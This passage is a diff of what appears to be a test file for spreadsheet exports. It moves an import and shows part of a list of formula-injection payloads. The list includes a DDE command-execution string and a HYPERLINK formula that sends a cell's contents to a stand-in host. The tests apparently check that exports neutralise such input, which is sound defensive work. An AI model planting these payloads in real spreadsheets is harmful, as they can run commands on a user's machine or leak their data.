@@ -12,8 +12,8 @@ from tests.exports.making import listed
 from tests.exports.reading import rows_of, written
 from webmap.audience import OFFICE
 from webmap.exports.asked import Asked, What
-from webmap.exports.harmless import harmless
 from webmap.exports.xlsx_book import sheet_names
+from webmap.vocabulary.text import harmless
 
 PAYLOADS = (
     "=1+2", "+1+2", "-1+2", "@SUM(1+9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"x\")",
